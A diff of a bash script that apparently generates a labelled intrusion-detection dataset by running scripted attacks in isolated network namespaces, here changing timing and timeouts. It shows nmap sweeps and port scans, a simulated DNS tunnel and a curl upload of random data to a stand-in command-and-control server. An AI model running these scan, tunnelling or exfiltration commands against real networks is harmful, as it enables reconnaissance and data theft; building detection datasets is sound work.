@@ -86,8 +86,9 @@ case $PROFILE in
     *) die "unknown profile '$PROFILE' (short, long, demo)" ;;
 esac
 [[ -n $BENIGN_SECS ]] && BENIGN=$BENIGN_SECS
-GAP=3        # seconds between two attacks of the attacker (windows never overlap)
-TAIL=2       # seconds after an attack's end still inside its label window
+GAP=5        # seconds between two attacks of the attacker (windows never overlap)
+TAIL=4       # seconds after an attack's end still in its label window (the gateway
+             # answers a probe to a dead address with ICMP host unreachable ~3 s later)
 
 # ------------------------------------------------------------------ addresses
 LAN=192.168.77
@@ -356,8 +357,9 @@ EOF
 mkdir -p /var/run/vsftpd/empty
 
 # ------------------------------------------------------------------ timing
-ATTACK_BUDGET=150
-[[ $PROFILE == long ]] && ATTACK_BUDGET=700
+ATTACK_BUDGET=150       # upper bound of the attack phase, for the servers' timeouts
+ATTACK_TIMEOUT=120      # upper bound of one attack
+[[ $PROFILE == long ]] && { ATTACK_BUDGET=800; ATTACK_TIMEOUT=700; }
 [[ $PROFILE == demo ]] && ATTACK_BUDGET=60
 RUN=$((BENIGN + ATTACK_BUDGET + 30))     # hard bound for every server/generator
 
@@ -440,7 +442,7 @@ attack() {
     want "$name" || return 0
     log "attack $name ($cat) from $ns"
     t0=$(date +%s.%N)
-    (cd "$W" && ip netns exec "$PFX-$ns" timeout -k 3 120 "$@") >"$W/attack-$name.log" 2>&1 || rc=$?
+    (cd "$W" && ip netns exec "$PFX-$ns" timeout -k 3 "$ATTACK_TIMEOUT" "$@") >"$W/attack-$name.log" 2>&1 || rc=$?
     t1=$(date +%s.%N)
     printf '%s\t%s\t%s\t%s\t%s\t%s\t%s\t%s\t%s\n' "$name" "$cat" "$ah" "$vh" "$rule" "$t0" "$t1" "$rc" "$desc" >>"$W/attacks.tsv"
     sleep "$GAP"
@@ -455,7 +457,7 @@ attacker_run() {
         "nmap -sn host sweep of $WAN.0/24 through the gateway: ICMP echo, TCP SYN/443, TCP ACK/80, ICMP timestamp per address" \
         -- atk nmap -sn -n -T4 --max-retries 1 "$WAN.0/24"
     attack scan-syn scan "$ATK_IP" "$NAS_IP" "$A && ip.addr==$NAS_IP" \
-        "nmap -sS SYN scan of the NAS, top 1000 TCP ports (open 21,22,80,443,5201)" \
+        "nmap -sS SYN scan of the NAS, top 1000 TCP ports (open 21,22,80,443)" \
         -- atk nmap -sS -n -T4 -Pn "$NAS_IP"
     attack scan-connect scan "$ATK_IP" "$WWW_IP" "$A && ip.addr==$WWW_IP" \
         "nmap -sT connect scan of the web server $WWW_IP, top 300 TCP ports (open 80,443)" \
@@ -486,7 +488,7 @@ compromised_run() {
         "$C && ip.addr==$GW_IP && udp.port==53 && dns.qry.name contains \"t.cdn-sync.test\"" \
         "compromised phone sends $TUNNEL_N TXT queries with long base32 labels under t.cdn-sync.test to the LAN resolver (50 per source port)" \
         -- c3 "$PY" "$GEN/nadtb_gen.py" dnstunnel --server "$GW_IP" --domain t.cdn-sync.test --count "$TUNNEL_N" \
-           --rate "$TUNNEL_RATE" --duration 90 --seed 77
+           --rate "$TUNNEL_RATE" --duration $((TUNNEL_N / TUNNEL_RATE + 30)) --seed 77
     attack exfil exfiltration "$C3_IP" "$C2_SRV_IP" "$C && ip.addr==$C2_SRV_IP && tcp.port==443" \
         "compromised phone uploads ${EXFIL_MB} MB of random data with curl (HTTPS PUT) to $C2_SRV_IP" \
         -- c3 curl -s -o /dev/null -k -H "Expect:" --limit-rate 4M --max-time 60 -T "$W/files/exfil.tar" \
